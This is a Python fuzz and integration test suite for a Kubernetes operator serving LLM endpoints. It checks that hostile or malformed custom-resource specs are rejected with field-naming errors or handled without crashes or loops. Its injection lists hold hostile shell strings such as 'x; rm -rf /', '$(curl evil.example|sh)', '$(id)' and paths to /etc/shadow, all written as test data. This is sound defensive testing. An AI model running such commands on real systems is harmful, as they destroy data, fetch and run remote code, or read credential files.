"""Hostile and malformed input against the real API server and the real operator.

hypothesis generates DedicatedEndpoint and QuantizedModel objects: valid ones, boundary numbers
(0, -1, limits +-1, 2**31, 2**63-1, NaN, floats where ints belong), huge strings, arbitrary
Unicode, shell and option injection attempts in every string that could reach a container
(model names, repos, revisions, paths, images, quantities, module regexes), unknown fields, several
model sources at once, malformed ``llm.dedicated.dev/pod-annotations``. Each is sent the way
``kubectl apply`` sends it (strict field validation). Every one must be either

* refused by the API server with 400/422 (413 for oversized bodies) and a message that names the
  field (``spec.…`` / ``metadata.…``), never a 5xx; or
* accepted, and then *handled* by the operator: it writes a status for the object's generation
  (Ready, Failed with a reason, WaitingForModel, …), never crashes (no traceback, process alive)
  and never loops (a bounded number of writes per object, then a quiet period with no writes).

The operator runs as a process, through the fault proxy in counting mode (no faults), watching
only the test's namespace. Examples are kept modest (tens per test) so the suite stays fast; set
``DEDICATED_FUZZ_EXAMPLES`` for a longer run.
"""

from __future__ import annotations

import itertools
import json
import math
import os
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from kubernetes.client.exceptions import ApiException
from pydantic import ValidationError

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from support import world as W  # noqa: E402
from support.fixtures import *  # noqa: E402,F403
from support.fixtures import wait_for  # noqa: E402

from dedicated.operator.api import DedicatedEndpointSpec  # noqa: E402
from dedicated.operator.api.common import HUB_REPO, HUB_REVISION, REL_PATH, SERVED_NAME  # noqa: E402
from dedicated.operator.api.quantizedmodel import QuantizedModelSpec  # noqa: E402

pytestmark = pytest.mark.integration

EXAMPLES = int(os.environ.get("DEDICATED_FUZZ_EXAMPLES", "30"))
#: Status writes one object may cause while it settles (Pending -> rolling out -> Ready, or a
#: failure, plus a retry after a 409): more than this is a loop.
MAX_STATUS_WRITES = 8

INJECTION = ["x; rm -rf /", "$(curl evil.example|sh)", "`reboot`", "a && b", "a|b", "--trust-remote-code",
             "-c", "x --enforce-eager", "a\nb", "a\u0000b", "../../../etc/shadow", "/etc/passwd", "a b", "'; DROP --",
             "{{.Values}}", "${HOME}", "%s%s%n", "\u202eevil", "ｘ；ｒｍ", "\ud7ff", "🤖/🤖", "a" * 64, "a" * 254]
BOUNDARY_INTS = [0, -1, 1, 2, 15, 16, 17, 63, 64, 65, 255, 256, 1024, 1025, 1048576, 1048577, 2**31, 2**63 - 1, -2**63]


def fuzz_text(pattern: str | None = None, max_size: int = 200) -> st.SearchStrategy[str]:
    options = [st.sampled_from(INJECTION), st.text(max_size=max_size),
               st.sampled_from(["a" * n for n in (1, 63, 64, 96, 97, 128, 129, 253, 254, 1024, 1025, 70000)])]
    if pattern:
        options.append(st.from_regex(pattern, fullmatch=True).filter(lambda s: len(s) <= 300))
    return st.one_of(*options)


def numbers(lo: int, hi: int) -> st.SearchStrategy:
    return st.one_of(st.integers(lo, hi), st.sampled_from(BOUNDARY_INTS),
                     st.sampled_from([1.5, -0.0, 1e308, math.inf, math.nan, "1", None, True]))


def _drop_none(d: dict) -> dict:
    return {k: v for k, v in d.items() if v is not None}


VALID_VOLUME = {"volume": {"claimName": W.CLAIM, "path": W.SMALL_PATH}}


def _valid_pattern(pattern: str, max_size: int) -> st.SearchStrategy[str]:
    return st.from_regex(pattern, fullmatch=True).filter(
        lambda s: 0 < len(s) <= max_size and ".." not in s and "--" not in s)


def _set(spec: dict, path: str, value) -> dict:
    node = spec
    keys = path.split(".")
    for key in keys[:-1]:
        if not isinstance(node.get(key), dict):
            node[key] = {}
        node = node[key]
    node[keys[-1]] = value
    return spec


def mutated(valid: st.SearchStrategy[dict], paths: list[str]) -> st.SearchStrategy[dict]:
    """A valid spec with up to two fields replaced by hostile or malformed values (none in about a
    third of the examples, so the operator also sees many accepted objects)."""
    hostile = st.one_of(fuzz_text(), numbers(-5, 2**21), st.lists(fuzz_text(), max_size=3),
                        st.just({}), st.dictionaries(fuzz_text(max_size=10), fuzz_text(max_size=10), max_size=2))
    return st.builds(lambda spec, muts: [_set(spec, p, v) for p, v in muts] and spec or spec,
                     valid, st.lists(st.tuples(st.sampled_from(paths), hostile), max_size=2))


valid_model = st.one_of(
    st.just(VALID_VOLUME), st.just(VALID_VOLUME), st.just(VALID_VOLUME),
    # valid syntax, but nothing there: the operator must say so in a condition
    st.builds(lambda p: {"volume": {"claimName": W.CLAIM, "path": p}}, _valid_pattern(REL_PATH, 100)),
    st.builds(lambda r, v: {"hub": {"repo": r, **({"revision": v} if v else {})}},
              _valid_pattern(HUB_REPO, 96), st.none() | _valid_pattern(HUB_REVISION, 40)),
    st.builds(lambda n: {"quantizedModelRef": {"name": n}}, _valid_pattern(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$", 60)),
)

valid_endpoint = st.builds(
    lambda model, served, replicas, placement, serving: _drop_none({
        "model": {**model, **({"servedModelName": served} if served else {})}, "replicas": replicas,
        "placement": placement, "serving": serving}),
    valid_model,
    st.none() | _valid_pattern(SERVED_NAME, 128),
    st.sampled_from([0, 1, 1, 2]),
    st.one_of(st.just({"pool": "ampere-a100"}),
              st.builds(lambda pool, g: _drop_none({"pool": pool, "gpusPerReplica": g}),
                        st.sampled_from(["ampere-a100", "hopper-h200", "ampere-a10", "no-such-pool"]),
                        st.none() | st.integers(1, 16)),
              st.builds(lambda fam, m: _drop_none({"gpuFamilies": fam, "maxGpusPerReplica": m}),
                        st.lists(st.sampled_from(["ampere", "hopper", "blackwell", "volta"]), min_size=1, max_size=3,
                                 unique=True), st.none() | st.integers(1, 16))),
    st.none() | st.builds(lambda cl, conc, gmu, to, mtp: _drop_none({
        "contextLength": cl, "concurrency": conc, "gpuMemoryUtilization": gmu, "textOnly": to, "mtp": mtp}),
        st.none() | st.integers(256, 1048576), st.none() | st.integers(1, 1024),
        st.none() | st.floats(0.5, 0.98), st.none() | st.sampled_from(["auto", "on", "off"]),
        st.none() | st.builds(lambda mode: {"mode": mode}, st.sampled_from(["auto", "on", "off"]))),
)
ENDPOINT_PATHS = ["replicas", "model.servedModelName", "model.volume.path", "model.volume.claimName", "model.hub",
                  "placement.pool", "placement.gpuFamilies", "placement.gpusPerReplica", "placement.maxGpusPerReplica",
                  "placement.isolation", "serving.contextLength", "serving.concurrency", "serving.gpuMemoryUtilization",
                  "serving.textOnly", "serving.mtp.mode", "serving.mtp.numSpeculativeTokens", "image",
                  "resources.cpu", "resources.memory", "unknownField", "model.quantizedModelRef.name"]
endpoint_spec = mutated(valid_endpoint, ENDPOINT_PATHS)

valid_qm = st.builds(
    lambda method_bits, group, modules, samples, out, gpus, backoff: _drop_none({
        "base": {"volume": {"claimName": "base", "path": "m"}}, "method": method_bits[0], "bits": method_bits[1],
        "groupSize": group, "modules": modules, "calibration": {"numSamples": samples},
        "output": {"volume": {"claimName": W.CLAIM, "path": out}},
        "resources": {"pool": "hopper-h200", "gpus": gpus}, "backoffLimit": backoff}),
    st.sampled_from([("gsq", 2), ("autoround", 2), ("autoround", 3), ("autoround", 4), ("autoround", 8)]),
    st.none() | st.sampled_from([32, 64, 128, 256]),
    st.none() | st.builds(lambda q: {"quantize": q}, st.lists(st.sampled_from([r"mlp\.experts\.", "(", "[a-", r".*"]),
                                                          min_size=1, max_size=2)),
    st.integers(1, 65536), _valid_pattern(REL_PATH, 60), st.integers(1, 2), st.integers(0, 1),
)
QM_PATHS = ["method", "bits", "groupSize", "modules.quantize", "modules.keepBF16", "calibration.numSamples",
            "calibration.sequenceLength", "output.volume.path", "output.volume.claimName", "base.hub",
            "resources.pool", "resources.gpus", "backoffLimit", "activeDeadlineSeconds", "validation.maxPerplexityRatio",
            "output.hub", "extra"]
qm_spec = mutated(valid_qm, QM_PATHS)

pod_annotations = st.one_of(
    st.none(), st.none(), st.just(json.dumps({"dedicated.dev/simulate-run-duration": "1h"})),
    st.just("not json"), st.just("[1,2]"), st.just(json.dumps({"llm.dedicated.dev/spec-hash": "x"})),
    st.just(json.dumps({"bad key!": "v"})), st.just(json.dumps({"k": 1})), st.text(max_size=50),
)


class Campaign:
    """Everything one fuzz test sent and what came back."""

    def __init__(self, world: W.World, plural: str, kind: str) -> None:
        self.world, self.plural, self.kind = world, plural, kind
        self.counter = itertools.count()
        self.accepted: list[str] = []
        self.rejected: list[tuple[int, str]] = []

    def send(self, spec: dict, annotation: str | None) -> None:
        name = f"fz-{next(self.counter)}"
        meta: dict = {"name": name}
        if annotation is not None:
            meta["annotations"] = {W.POD_ANNOTATIONS: annotation}
        body = {"apiVersion": f"{W.GROUP}/{W.VERSION}", "kind": self.kind, "metadata": meta, "spec": spec}
        try:
            self.world.co.create_namespaced_custom_object(W.GROUP, W.VERSION, self.world.ns, self.plural, body,
                                                          field_validation="Strict")
        except ApiException as err:
            assert err.status in (400, 422, 413), f"{err.status} for {json.dumps(spec)[:2000]}:\n{err.body}"
            try:
                message = json.loads(err.body).get("message", "")
            except ValueError:
                message = err.body or ""
            assert message.strip(), f"a refusal without a message for {spec!r}"
            if err.status == 422:
                assert "spec." in message or "metadata." in message or "spec:" in message, \
                    f"the message names no field: {message}"
            self.rejected.append((err.status, message))
            return
        self.accepted.append(name)

    def settle_and_check(self, proxy, op) -> dict:
        """Every accepted object gets a status for its generation; writes stay bounded; then quiet."""
        def unhandled() -> list[str]:
            objs = {o["metadata"]["name"]: o for o in
                    self.world.co.list_namespaced_custom_object(W.GROUP, W.VERSION, self.world.ns, self.plural)["items"]}
            return [n for n in self.accepted if not (W.observed(objs.get(n)) and W.phase(objs.get(n)))]

        wait_for(lambda: not unhandled(), 180, lambda: f"status for every accepted object; missing {unhandled()}")
        time.sleep(8)  # let rollouts and Job pods settle
        writes = proxy.writes_by_object()
        status_writes = {n: writes.get((f"{self.plural}/status", self.world.ns, n), 0) for n in self.accepted}
        loops = {n: c for n, c in status_writes.items() if c > MAX_STATUS_WRITES}
        assert loops == {}, f"objects written too often (a loop?): {loops}"
        quiet = proxy.mark()
        time.sleep(12)
        noisy = proxy.writes_by_object(quiet)
        assert not noisy, f"writes in a quiet period: {dict(noisy)}"
        assert op.alive(), f"the operator died:\n{op.log_tail()}"
        assert op.crash_lines() == [], op.crash_lines()[:5]
        phases: dict[str, int] = {}
        for o in self.world.co.list_namespaced_custom_object(W.GROUP, W.VERSION, self.world.ns, self.plural)["items"]:
            key = f"{W.phase(o)}/{W.condition(o, 'Ready').get('reason')}"
            phases[key] = phases.get(key, 0) + 1
        return phases


FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize=False, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large, HealthCheck.filter_too_much])


def test_fuzz_dedicated_endpoints(world, start_operator, proxy) -> None:
    op = start_operator(world.ns, proxy)
    campaign = Campaign(world, "dedicatedendpoints", "DedicatedEndpoint")
    python_agrees: list[tuple[bool, str]] = []

    @FUZZ
    @given(spec=endpoint_spec, annotation=pod_annotations)
    def send(spec: dict, annotation: str | None) -> None:
        before = len(campaign.accepted)
        campaign.send(spec, annotation)
        try:
            DedicatedEndpointSpec.model_validate(spec)
            python_ok = True
        except (ValidationError, ValueError, TypeError):
            python_ok = False
        if len(campaign.accepted) > before:
            python_agrees.append((python_ok, campaign.accepted[-1]))

    send()
    print(f"endpoints: {len(campaign.accepted)} accepted, {len(campaign.rejected)} refused "
          f"({sorted({s for s, _ in campaign.rejected})})")
    assert campaign.rejected, "nothing was refused: the fuzzer is not reaching the validation"
    phases = campaign.settle_and_check(proxy, op)
    print(f"accepted endpoints ended as: {phases}")
    # accepted by the API server but refused by the operator's own models: must be InvalidSpec
    for ok, name in python_agrees:
        if not ok:
            ep = world.get_ep(name)
            assert W.condition(ep, "Ready").get("reason") == "InvalidSpec", (name, ep.get("spec"), ep.get("status"))
    # nothing ever runs a shell with user data
    for dep in world.deployments():
        for c in dep["spec"]["template"]["spec"]["containers"] + dep["spec"]["template"]["spec"].get("initContainers", []):
            assert isinstance(c["command"], list) and c["command"][0] not in ("sh", "bash", "/bin/sh")
            assert all(isinstance(a, str) for a in c.get("args", []))


def test_fuzz_quantized_models(world, start_operator, proxy) -> None:
    op = start_operator(world.ns, proxy)
    campaign = Campaign(world, "quantizedmodels", "QuantizedModel")

    @FUZZ
    @given(spec=qm_spec, annotation=pod_annotations)
    def send(spec: dict, annotation: str | None) -> None:
        campaign.send(spec, annotation)

    send()
    print(f"models: {len(campaign.accepted)} accepted, {len(campaign.rejected)} refused")
    assert campaign.rejected and campaign.accepted
    phases = campaign.settle_and_check(proxy, op)
    print(f"accepted models ended as: {phases}")
    jobs = world.jobs()
    owners = [j["metadata"]["ownerReferences"][0]["name"] for j in jobs]
    assert len(owners) == len(set(owners)), f"a model got two Jobs: {owners}"
    for job in jobs:
        c = job["spec"]["template"]["spec"]["containers"][0]
        assert c["command"] == ["python", "-m", "dedicated.quantize_job"], c["command"]


@pytest.mark.parametrize("field,value", [
    ("spec.model.servedModelName", "x; rm -rf /"), ("spec.model.hub.repo", "x; rm -rf /"),
    ("spec.model.hub.repo", "org/model --trust-remote-code"), ("spec.model.hub.revision", "--upload"),
    ("spec.model.volume.path", "../../etc"), ("spec.image", "evil.example/x;id"),
    ("spec.resources.memory", "$(id)"), ("spec.placement.pool", "pool\nname"),
])
def test_injection_is_refused_with_a_message_naming_the_field(world, field, value) -> None:
    spec: dict = {"model": {"volume": {"claimName": "models"}}}
    parts = field.split(".")[1:]
    if parts[:2] == ["model", "hub"]:
        spec["model"] = {"hub": {"repo": "org/model"}}
    node = spec
    for key in parts[:-1]:
        node = node.setdefault(key, {})
    node[parts[-1]] = value
    with pytest.raises(ApiException) as err:
        world.co.create_namespaced_custom_object(W.GROUP, W.VERSION, world.ns, "dedicatedendpoints", {
            "apiVersion": f"{W.GROUP}/{W.VERSION}", "kind": "DedicatedEndpoint", "metadata": {"name": "inj"},
            "spec": spec}, field_validation="Strict")
    assert err.value.status == 422
    assert field in json.loads(err.value.body)["message"], json.loads(err.value.body)["message"]


def test_oversized_objects_are_refused(world) -> None:
    """A 1.6 MB annotation (beyond the 256 KiB annotation limit) and a 4 MiB body (beyond the API
    server's request limit): refused with a client error, nothing stored."""
    for size, expect in ((1_600_000, (400, 413, 422)), (4 * 2**20, (413, 400, 422))):
        body = W.endpoint("huge")
        body["metadata"]["annotations"] = {"example.com/blob": "x" * size}
        with pytest.raises(ApiException) as err:
            world.create(body)
        assert err.value.status in expect, (size, err.value.status, (err.value.body or "")[:300])
    assert world.get_ep("huge") is None
